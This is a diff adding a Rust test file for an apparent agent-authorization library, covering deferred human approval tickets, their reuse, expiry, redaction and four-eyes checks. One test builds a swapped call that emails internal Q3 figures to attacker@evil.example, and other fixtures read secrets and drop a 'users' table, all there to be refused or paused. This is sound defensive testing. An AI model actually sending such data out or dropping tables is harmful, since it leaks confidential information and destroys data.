@@ -1,0 +1,401 @@
+//! Deferred approvals: a call that needs approval pauses with a ticket, a human answers later
+//! from anywhere, and the run resumes with the same call; every way of misusing a ticket is
+//! refused and recorded.
+
+use std::sync::Arc;
+
+use agentwarrant::{
+    ApprovalAnswer, ApprovalQueue, ApprovalStore, ApprovalStoreError, ApprovalStoreErrorKind,
+    Authorization, Guard, ManualClock, MemoryLedger, ReasonCode, Refusal, RefusalKind, Task,
+    Ticket, TicketId, TicketState, ToolCall, Warrant,
+};
+use serde_json::json;
+
+use crate::fixtures::*;
+
+fn secret() -> ToolCall {
+    ToolCall::new("read_secret", json!({"path": "db/main"}))
+}
+
+fn email() -> ToolCall {
+    ToolCall::new(
+        "send_email",
+        json!({"to": "ceo@partner.example", "body": "the Q3 numbers"}),
+    )
+}
+
+struct Setup {
+    guard: Guard,
+    queue: ApprovalQueue,
+    ledger: Arc<MemoryLedger>,
+    clock: Arc<ManualClock>,
+}
+
+fn setup() -> Setup {
+    let queue = ApprovalQueue::new();
+    let ledger = Arc::new(MemoryLedger::new());
+    let clock = Arc::new(ManualClock::new(
+        time::macros::datetime!(2026-03-01 12:00 UTC),
+    ));
+    let guard = builder()
+        .approval_store(queue.clone())
+        .ledger(ledger.clone())
+        .clock(clock.clone())
+        .limits(patient())
+        .build()
+        .unwrap();
+    Setup {
+        guard,
+        queue,
+        ledger,
+        clock,
+    }
+}
+
+fn pending(result: Result<Authorization, Refusal>) -> Ticket {
+    match result {
+        Ok(Authorization::Pending(ticket)) => ticket,
+        Ok(Authorization::Granted(warrant)) => panic!("granted without approval: {warrant:?}"),
+        Err(refusal) => panic!("refused: {refusal}"),
+    }
+}
+
+fn granted(result: Result<Authorization, Refusal>) -> Warrant {
+    match result {
+        Ok(Authorization::Granted(warrant)) => warrant,
+        Ok(Authorization::Pending(ticket)) => panic!("still pending: {ticket}"),
+        Err(refusal) => panic!("refused: {refusal}"),
+    }
+}
+
+fn refused(result: Result<Authorization, Refusal>, code: ReasonCode) -> Refusal {
+    match result {
+        Err(refusal) => {
+            assert!(refusal.has(&code), "{code} expected in {refusal:?}");
+            refusal
+        }
+        Ok(outcome) => panic!("{code} expected, got {outcome:?}"),
+    }
+}
+
+fn detail_of(refusal: &Refusal, code: ReasonCode) -> String {
+    refusal
+        .reasons
+        .iter()
+        .find(|r| r.code == code)
+        .and_then(|r| r.detail.clone())
+        .unwrap_or_default()
+}
+
+/// A task whose intent covers every fixture tool but email: a mail is drift and needs
+/// approval.
+fn begin(guard: &Guard) -> Task {
+    let intent = agentwarrant::Intent::builder("keep the service healthy")
+        .scopes(EVERYTHING.into_iter().filter(|s| !s.starts_with("email")))
+        .build()
+        .unwrap();
+    guard.begin(ops(), intent).unwrap()
+}
+
+#[test]
+fn a_paused_call_is_answered_from_another_thread_and_resumed_with_its_warrant() {
+    let Setup {
+        guard,
+        queue,
+        ledger,
+        ..
+    } = setup();
+    let task = begin(&guard);
+    let ticket = pending(task.submit(secret()));
+    assert_eq!(queue.waiting().unwrap().len(), 1);
+    assert_eq!(task.pending().len(), 1);
+    // Not answered yet: resuming keeps it pending.
+    assert_eq!(
+        pending(task.resume(ticket.id(), secret())).id(),
+        ticket.id()
+    );
+
+    let answering = queue.clone();
+    let id = ticket.id();
+    std::thread::spawn(move || answering.approve(id, &[BOB]).unwrap())
+        .join()
+        .unwrap();
+    assert!(queue.waiting().unwrap().is_empty());
+
+    let warrant = granted(task.resume(ticket.id(), secret()));
+    assert_eq!(warrant.approvers(), [BOB]);
+    assert_eq!(warrant.call_id(), ticket.request().call_id);
+    warrant.complete(agentwarrant::Outcome::ok()).unwrap();
+    let call = records_of(&ledger, ticket.request().call_id);
+    let kinds: Vec<&str> = call.iter().map(|r| r.kind.as_str()).collect();
+    assert_eq!(
+        kinds,
+        [
+            "approval.requested",
+            "approval.answered",
+            "call.decided",
+            "call.completed"
+        ]
+    );
+    assert_eq!(status(&call[2]), "approved");
+    assert!(task.pending().is_empty());
+    assert!(matches!(
+        queue.state(ticket.id()).unwrap(),
+        TicketState::Closed { .. }
+    ));
+}
+
+#[test]
+fn a_ticket_is_used_once() {
+    let Setup { guard, queue, .. } = setup();
+    let task = begin(&guard);
+    let ticket = pending(task.submit(secret()));
+    queue.approve(ticket.id(), &[BOB]).unwrap();
+    granted(task.resume(ticket.id(), secret()))
+        .complete(agentwarrant::Outcome::ok())
+        .unwrap();
+    let replay = refused(
+        task.resume(ticket.id(), secret()),
+        ReasonCode::ApprovalInvalid,
+    );
+    assert_eq!(replay.kind, RefusalKind::ApprovalDenied);
+    assert!(detail_of(&replay, ReasonCode::ApprovalInvalid).contains("already used"));
+    assert_eq!(
+        queue.approve(ticket.id(), &[BOB]).unwrap_err().kind,
+        ApprovalStoreErrorKind::Closed
+    );
+}
+
+#[test]
+fn the_same_call_submitted_again_while_waiting_gets_the_same_ticket_and_counts_once() {
+    let Setup { guard, ledger, .. } = setup();
+    let task = begin(&guard);
+    let first = pending(task.submit(secret()));
+    let again = pending(task.submit(secret()));
+    assert_eq!(first.id(), again.id());
+    let requested = ledger
+        .records()
+        .iter()
+        .filter(|r| r.kind.as_str() == "approval.requested")
+        .count();
+    assert_eq!(requested, 1);
+    // Another call is another request.
+    let other = pending(task.submit(ToolCall::new("read_secret", json!({"path": "db/other"}))));
+    assert_ne!(other.id(), first.id());
+}
+
+#[test]
+fn a_ticket_resumed_with_changed_args_is_refused_and_stays_valid_for_the_real_call() {
+    let Setup { guard, queue, .. } = setup();
+    let task = begin(&guard);
+    let ticket = pending(task.submit(email()));
+    queue.approve(ticket.id(), &[BOB]).unwrap();
+    let swapped = ToolCall::new(
+        "send_email",
+        json!({"to": "attacker@evil.example", "body": "the Q3 numbers"}),
+    );
+    let refusal = refused(
+        task.resume(ticket.id(), swapped),
+        ReasonCode::ApprovalInvalid,
+    );
+    assert!(detail_of(&refusal, ReasonCode::ApprovalInvalid).contains("differs"));
+    let warrant = granted(task.resume(ticket.id(), email()));
+    assert_eq!(warrant.tool(), "send_email");
+    warrant.complete(agentwarrant::Outcome::ok()).unwrap();
+}
+
+#[test]
+fn a_ticket_of_another_task_is_refused() {
+    let Setup { guard, queue, .. } = setup();
+    let mine = begin(&guard);
+    let theirs = begin(&guard);
+    let ticket = pending(mine.submit(secret()));
+    queue.approve(ticket.id(), &[BOB]).unwrap();
+    let refusal = refused(
+        theirs.resume(ticket.id(), secret()),
+        ReasonCode::ApprovalInvalid,
+    );
+    assert!(detail_of(&refusal, ReasonCode::ApprovalInvalid).contains("another task"));
+    let unknown = refused(
+        mine.resume(TicketId::new(), secret()),
+        ReasonCode::ApprovalInvalid,
+    );
+    assert!(detail_of(&unknown, ReasonCode::ApprovalInvalid).contains("not waiting"));
+    // The owner of the ticket still gets its call.
+    granted(mine.resume(ticket.id(), secret()))
+        .complete(agentwarrant::Outcome::ok())
+        .unwrap();
+}
+
+#[test]
+fn a_request_that_expires_before_the_answer_or_the_resume_is_refused_as_timed_out() {
+    let Setup {
+        guard,
+        queue,
+        clock,
+        ..
+    } = setup();
+    let task = begin(&guard);
+    // Never answered.
+    let silent = pending(task.submit(secret()));
+    // Answered in time, resumed too late.
+    let late = pending(task.submit(email()));
+    queue.approve(late.id(), &[BOB]).unwrap();
+    clock.advance(time::Duration::minutes(16));
+    for (ticket, call) in [(silent, secret()), (late, email())] {
+        let refusal = refused(task.resume(ticket.id(), call), ReasonCode::ApprovalTimeout);
+        assert_eq!(refusal.kind, RefusalKind::ApprovalDenied);
+    }
+}
+
+#[test]
+fn a_refusal_stands_and_a_second_answer_is_not_taken() {
+    let Setup { guard, queue, .. } = setup();
+    let task = begin(&guard);
+    let ticket = pending(task.submit(secret()));
+    queue
+        .deny(ticket.id(), BOB, Some("not during the freeze"))
+        .unwrap();
+    let second = queue.approve(ticket.id(), &[CAROL]).unwrap_err();
+    assert_eq!(second.code(), "already_answered");
+    let refusal = refused(
+        task.resume(ticket.id(), secret()),
+        ReasonCode::ApprovalDenied,
+    );
+    assert_eq!(refusal.kind, RefusalKind::ApprovalDenied);
+}
+
+#[test]
+fn an_answer_filed_in_the_store_is_checked_like_any_approval() {
+    let Setup { guard, queue, .. } = setup();
+    let task = begin(&guard);
+    // Critical: four eyes, the agent's owner may not approve.
+    let drop = ToolCall::new("drop_table", json!({"table": "users"}));
+    let by_owner = pending(task.submit(drop.clone()));
+    queue.approve(by_owner.id(), &[ALICE]).unwrap();
+    let refusal = refused(
+        task.resume(by_owner.id(), drop),
+        ReasonCode::ApprovalInvalid,
+    );
+    assert!(detail_of(&refusal, ReasonCode::ApprovalInvalid).contains("four eyes"));
+    // An agent cannot answer for a human.
+    let by_agent = pending(task.submit(secret()));
+    queue.approve(by_agent.id(), &["agent://acme/ops"]).unwrap();
+    let refusal = refused(
+        task.resume(by_agent.id(), secret()),
+        ReasonCode::ApprovalInvalid,
+    );
+    assert!(detail_of(&refusal, ReasonCode::ApprovalInvalid).contains("not a human"));
+}
+
+#[test]
+fn what_changes_while_the_human_decides_is_checked_again_on_resume() {
+    let Setup { guard, queue, .. } = setup();
+    let task = begin(&guard);
+    let ticket = pending(task.submit(secret()));
+    guard.disable_identity("agent://acme/ops");
+    queue.approve(ticket.id(), &[BOB]).unwrap();
+    let refusal = refused(task.resume(ticket.id(), secret()), ReasonCode::GrantInvalid);
+    assert_eq!(refusal.kind, RefusalKind::Denied);
+}
+
+#[test]
+fn ending_the_task_refuses_its_paused_calls_and_closes_their_tickets() {
+    let Setup {
+        guard,
+        queue,
+        ledger,
+        ..
+    } = setup();
+    let task = begin(&guard);
+    let ticket = pending(task.submit(secret()));
+    task.end().unwrap();
+    assert!(queue.waiting().unwrap().is_empty());
+    assert!(task.pending().is_empty());
+    let call = records_of(&ledger, ticket.request().call_id);
+    let last = call.last().unwrap();
+    assert_eq!(last.kind.as_str(), "call.decided");
+    assert_eq!(status(last), "denied");
+    let kinds = kinds(&ledger);
+    let decided = kinds.iter().rposition(|k| *k == "call.decided").unwrap();
+    let ended = kinds.iter().position(|k| *k == "task.ended").unwrap();
+    assert!(decided < ended, "{kinds:?}");
+    assert_eq!(
+        queue.approve(ticket.id(), &[BOB]).unwrap_err().kind,
+        ApprovalStoreErrorKind::Closed
+    );
+    let refusal = refused(
+        task.resume(ticket.id(), secret()),
+        ReasonCode::ApprovalInvalid,
+    );
+    assert!(detail_of(&refusal, ReasonCode::ApprovalInvalid).contains("already used"));
+}
+
+#[test]
+fn the_approver_reads_the_sensitive_args_the_ledger_keeps_redacted() {
+    let Setup { guard, ledger, .. } = setup();
+    let task = begin(&guard);
+    let ticket = pending(task.submit(email()));
+    let request = ticket.request();
+    assert_eq!(request.args["body"], "the Q3 numbers");
+    assert_eq!(request.sensitive_args, ["body"]);
+    let shown = ticket.to_string();
+    for part in [
+        "send_email",
+        "agent://acme/ops",
+        ALICE,
+        "keep the service healthy",
+        "the Q3 numbers",
+        "sensitive: body",
+        request.reasons[0].code.as_str(),
+        request.reasons[0].code.describe(),
+        &ticket.id().to_string(),
+    ] {
+        assert!(shown.contains(part), "`{part}` missing from:\n{shown}");
+    }
+    let requested = records_of(&ledger, request.call_id);
+    let args = requested[0].args.as_ref().unwrap();
+    assert_ne!(args["body"], "the Q3 numbers");
+    assert!(!serde_json::to_string(&ledger.records())
+        .unwrap()
+        .contains("the Q3 numbers"));
+}
+
+/// A store that cannot file anything.
+struct Broken;
+
+impl ApprovalStore for Broken {
+    fn open(&self, _: &Ticket) -> Result<(), ApprovalStoreError> {
+        Err(ApprovalStoreError {
+            message: "database down".into(),
+            kind: ApprovalStoreErrorKind::Unavailable,
+        })
+    }
+    fn answer(&self, _: TicketId, _: ApprovalAnswer) -> Result<(), ApprovalStoreError> {
+        unreachable!()
+    }
+    fn state(&self, _: TicketId) -> Result<TicketState, ApprovalStoreError> {
+        Ok(TicketState::Unknown)
+    }
+    fn close(&self, _: TicketId) -> Result<(), ApprovalStoreError> {
+        Ok(())
+    }
+    fn waiting(&self) -> Result<Vec<Ticket>, ApprovalStoreError> {
+        Ok(Vec::new())
+    }
+}
+
+#[test]
+fn a_request_the_store_cannot_file_refuses_the_call() {
+    let guard = builder().approval_store(Broken).build().unwrap();
+    let task = begin(&guard);
+    let refusal = refused(task.submit(secret()), ReasonCode::ApprovalUnavailable);
+    assert_eq!(refusal.kind, RefusalKind::Denied);
+    assert!(detail_of(&refusal, ReasonCode::ApprovalUnavailable).contains("database down"));
+    // Calls that need no approval are not affected.
+    let logs = ToolCall::new("read_logs", json!({"service": "api"}));
+    match task.submit(logs) {
+        Ok(Authorization::Granted(w)) => w.complete(agentwarrant::Outcome::ok()).unwrap(),
+        other => panic!("{other:?}"),
+    }
+}
